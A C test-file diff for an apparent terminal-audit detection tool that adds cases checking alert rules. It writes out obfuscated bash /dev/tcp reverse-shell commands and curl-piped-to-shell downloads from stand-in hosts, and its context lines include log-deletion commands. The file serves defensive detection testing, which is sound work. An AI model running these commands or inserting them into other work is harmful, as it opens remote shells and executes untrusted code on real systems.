@@ -1082,6 +1082,14 @@ static void test_shipped(const char *path)
 		{ NULL, "/usr/bin/chattr", "chattr +a /var/log/ttyaudit/x.seg", NULL },
 		{ NULL, "/bin/rm", "rm -rf /var/log/ttyaudit", "log-removed" },
 		{ NULL, "/bin/rm", "rm -rf /var/log/ttyaudit-old", NULL },
+		/* quoted as bash reads words; a subshell or group after the pipe */
+		{ "bash -i >& /dev/tc''p/203.0.113.9/4444 0>&1", NULL, NULL, "reverse-shell-dev-tcp" },
+		{ "bash -i >& \"/dev/tcp/203.0.113.9\"/4444 0>&1", NULL, NULL,
+		  "reverse-shell-dev-tcp" },
+		{ "c\\url http://x.example/a | s\\h", NULL, NULL, "download-to-shell" },
+		{ "curl http://x.example/a | (sh)", NULL, NULL, "download-to-shell" },
+		{ "curl http://x.example/a | { bash; }", NULL, NULL, "download-to-shell" },
+		{ "curl http://x.example/a | (shasum)", NULL, NULL, NULL },
 	};
 	struct ta_alert_rules *rs = NULL;
 	char err[512], *text = malloc(1 << 20);
